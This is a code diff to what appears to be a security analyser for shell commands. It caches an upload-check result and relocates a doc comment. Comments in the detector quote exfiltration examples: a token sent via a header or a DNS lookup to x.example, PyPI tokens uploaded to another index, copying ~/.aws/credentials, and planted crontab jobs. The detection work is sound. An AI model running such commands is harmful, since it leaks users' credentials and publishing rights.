@@ -675,11 +675,12 @@ class Analysis {
         if (leak !== undefined) this.add('cmd/credential-upload', `${name} ${clip(url)}`, `the URL carries ${leak.names} to ${leak.host}`);
       }
     }
-    if (this.table.fetchers.has(name) || lookups.has(name) || uploadsPackage(name, args)) {
+    const uploader = uploadsPackage(name, args);
+    if (this.table.fetchers.has(name) || lookups.has(name) || uploader) {
       // -H "X-T: $GITHUB_TOKEN" to another host, `host "$(printenv GITHUB_TOKEN).x.example"`; a package
       // uploader given another index's URL and the index's token (`twine upload --repository-url https://… -p
       // "$PYPI_TOKEN"`): the token goes to that URL's host, which then holds the right to publish as the user.
-      const sent = sentSecret(this.table, name, uploadsPackage(name, args) ? uploaderWords(args) : args, cmd.substitutions, (sub) => this.printsCredential(unwrap(this.table, sub)) !== undefined);
+      const sent = sentSecret(this.table, name, uploader ? uploaderWords(args) : args, cmd.substitutions, (sub) => this.printsCredential(unwrap(this.table, sub)) !== undefined);
       if (sent !== undefined) this.add('cmd/credential-upload', clip(argv.join(' ')), sent);
     }
     if (name === 'socat') for (const file of socatSentFiles(args)) this.upload(file, 'socat');
@@ -950,10 +951,6 @@ class Analysis {
   }
 
   /**
-   * A copy of a credential file (`cp ~/.aws/credentials /tmp/x`) holds the credential: sending the copy later
-   * (in this text or a later call of the session) sends it. A copy into a folder keeps the file's name.
-   */
-  /**
    * `… | crontab -`: the lines printed into it become the user's crontab, and run on its schedule. Judged by the
    * jobs they run (a nightly `npm run backup` is ordinary; one that fetches and runs, sends a secret or runs a
    * program from a temporary folder is a planted job), as a crontab file written is. A table edited from its
@@ -987,6 +984,10 @@ class Analysis {
     else if (temporaryJob.test(text)) this.add('path/persistence-write', clip(`${text} | crontab -`), 'a crontab job that runs a program from a temporary folder');
   }
 
+  /**
+   * A copy of a credential file (`cp ~/.aws/credentials /tmp/x`) holds the credential: sending the copy later
+   * (in this text or a later call of the session) sends it. A copy into a folder keeps the file's name.
+   */
   copiedSecret(args: readonly string[]): void {
     const operands = args.filter((a) => !a.startsWith('-'));
     if (operands.length < 2) return;
